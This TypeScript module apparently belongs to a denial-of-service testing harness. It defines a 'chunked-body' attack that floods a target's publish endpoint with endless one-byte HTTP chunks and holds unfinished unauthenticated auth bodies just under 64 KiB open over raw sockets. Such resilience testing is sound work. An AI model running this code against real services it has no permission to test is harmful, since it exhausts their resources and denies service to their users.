import type { Assault, Attack } from './attack.ts'
import { countHttp, headOf } from './raw-http.ts'
import { crowd, RawSocket } from './raw-socket.ts'

/** A chunk with one byte of the body, six bytes on the wire. */
const chunk = '1\r\n \r\n'
const chunksPerWrite = 10_000
const chunks = Buffer.from(chunk.repeat(chunksPerWrite))
/** Just below the 64 KiB of an app manifest: such a body is buffered until it ends or stalls. */
const manifestChunks = Buffer.from(chunk.repeat(60_000))

/** Bodies in chunks of one byte: the overhead per chunk is far more than the byte. */
export const chunkedBody: Attack = {
  name: 'chunked-body',
  description: 'bodies in chunks of one byte: manifests without a token, and publishes',
  goal: { megabytes: 60 },
  async run(assault) {
    await Promise.all([
      crowd(4, assault.signal, () => endlessPublish(assault)),
      crowd(32, assault.signal, () => unfinishedManifest(assault)),
    ])
  },
}

const headers = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' }

async function endlessPublish(assault: Assault): Promise<void> {
  const { victim, signal } = assault
  const raw = await RawSocket.open(assault)
  if (raw === undefined) return
  const head = headOf(victim, { method: 'POST', path: '/api/v2/events/publish', headers })
  let isOpen = await raw.send(head, signal)
  while (isOpen) isOpen = await raw.send(chunks, signal)
  await countHttp(raw, assault)
}

async function unfinishedManifest(assault: Assault): Promise<void> {
  const { victim, signal } = assault
  const raw = await RawSocket.open(assault)
  if (raw === undefined) return
  const head = headOf(victim, { method: 'POST', path: '/api/v2/auth', headers, hasToken: false })
  if ((await raw.send(head, signal)) && (await raw.send(manifestChunks, signal))) await raw.hold(signal)
  await countHttp(raw, assault)
}
